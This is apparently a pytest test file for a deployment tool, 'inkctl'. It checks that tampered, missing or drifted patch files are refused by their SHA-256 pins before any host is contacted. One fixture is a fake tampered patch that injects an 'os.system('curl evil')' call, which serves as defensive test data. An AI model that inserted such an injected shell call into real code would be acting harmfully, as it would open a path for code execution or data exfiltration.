"""Build-mode patch files are held against their pins before any host is touched: ``up`` and
``build`` refuse a tampered or missing patch file without connecting anywhere (the inventory
points at a loopback listener that counts connections) and without taking the deploy lock."""

from __future__ import annotations

import hashlib
import json
import socket
import subprocess
import sys
from pathlib import Path

import pytest

ROOT = Path(__file__).resolve().parents[2]
ORIGINAL = b"NUM_STAGES = 4\n"
PATCHED = b"NUM_STAGES = 3\n"
TAMPERED = b"NUM_STAGES = 3\nimport os; os.system('curl evil')\n"


def sha(b: bytes) -> str:
    return hashlib.sha256(b).hexdigest()


@pytest.fixture()
def listener():
    """A loopback port that accepts nothing useful: any connection to it is counted."""
    s = socket.socket()
    s.bind(("127.0.0.1", 0))
    s.listen(8)
    s.setblocking(False)
    yield s
    s.close()


def accepted(s: socket.socket) -> int:
    n = 0
    while True:
        try:
            c, _ = s.accept()
        except BlockingIOError:
            return n
        c.close()
        n += 1


def write_recipe(tmp_path: Path, port: int, lock: bool = False) -> Path:
    (tmp_path / "patches").mkdir()
    (tmp_path / "patches" / "moe.py").write_bytes(PATCHED)
    doc = {
        "name": "tampered", "model": {"repo": "x/y"},
        "hardware": {"accelerator": "h200", "compute_capability": "9.0", "gpus_per_host": 1},
        "engine": {"kind": "vllm", "version": "v1", "image": {"ref": "local/tampered:1"}},
        "patches": {"mode": "build", "base": "inkctl-fake-engine:latest@sha256:" + "b" * 64,
                    "files": [{"kind": "replace", "source": "moe.py", "path": "/opt/moe.py",
                               "sha256_before": sha(ORIGINAL), "sha256_after": sha(PATCHED)}]},
    }
    recipe = tmp_path / "tampered.yaml"
    recipe.write_text(json.dumps(doc))  # JSON is YAML
    (tmp_path / "hosts.yaml").write_text(json.dumps({"hosts": [
        {"name": "h1", "address": "127.0.0.1", "port": port, "user": "root"}]}))
    return recipe


def inkctl(*args: str, cwd: Path) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "inkctl", *args], cwd=cwd, capture_output=True, text=True,
                          env={"PYTHONPATH": str(ROOT), "PATH": "/usr/bin:/bin", "HOME": str(cwd), "COLUMNS": "200"},
                          timeout=60)


@pytest.mark.parametrize("command", [["up"], ["build"]])
def test_tampered_patch_file_is_refused_before_any_host(tmp_path, listener, command):
    recipe = write_recipe(tmp_path, listener.getsockname()[1])
    (tmp_path / "patches" / "moe.py").write_bytes(TAMPERED)
    r = inkctl(*command, str(recipe), "--hosts", str(tmp_path / "hosts.yaml"), cwd=tmp_path)
    out = r.stdout + r.stderr
    assert r.returncode == 2, out
    assert "patches/moe.py" in out  # shown relative to the cwd (tmp_path), where shorter
    assert sha(TAMPERED) in out and sha(PATCHED) in out
    assert "Traceback" not in out
    assert accepted(listener) == 0  # no host was contacted (so no deploy lock either)


def test_missing_patch_file_is_refused_before_any_host(tmp_path, listener):
    recipe = write_recipe(tmp_path, listener.getsockname()[1])
    (tmp_path / "patches" / "moe.py").unlink()
    r = inkctl("up", str(recipe), "--hosts", str(tmp_path / "hosts.yaml"), cwd=tmp_path)
    out = r.stdout + r.stderr
    assert r.returncode == 2, out
    assert "moe.py is not there" in out
    assert accepted(listener) == 0


def test_patch_changed_since_lock_is_refused_before_any_host(tmp_path, listener):
    """With a lock file the drift names the pin and both hashes (old -> new)."""
    recipe = write_recipe(tmp_path, listener.getsockname()[1])
    from inkctl.recipe.lockfile import file_key, local_observations, write_lock
    from inkctl.recipe.reading.source import load_recipe

    loaded = load_recipe(recipe)
    write_lock(loaded, local_observations(loaded))  # trust on first use: the file as it is now
    (tmp_path / "patches" / "moe.py").write_bytes(TAMPERED)
    r = inkctl("build", str(recipe), "--hosts", str(tmp_path / "hosts.yaml"), cwd=tmp_path)
    out = r.stdout + r.stderr
    assert r.returncode == 2, out
    assert f"{file_key(loaded, 'moe.py')}: {sha(PATCHED)} -> {sha(TAMPERED)} (on disk)" in out
    assert accepted(listener) == 0
